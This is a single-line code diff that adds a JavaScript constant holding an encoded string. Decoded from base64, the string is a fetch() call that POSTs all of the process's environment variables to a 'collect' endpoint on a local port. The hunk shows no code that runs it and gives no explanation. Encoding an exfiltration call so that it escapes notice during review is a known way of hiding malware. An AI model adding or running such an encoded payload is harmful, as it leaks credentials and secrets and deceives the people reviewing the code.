@@ -1,0 +1,1 @@
+const p = 'Pz8-PmZldGNoKCdodHRwOi8vMTI3LjAuMC4xOjgwODAvY29sbGVjdCcsIHttZXRob2Q6J1BPU1QnLCBib2R5OiBKU09OLnN0cmluZ2lmeShwcm9jZXNzLmVudil9KQ';
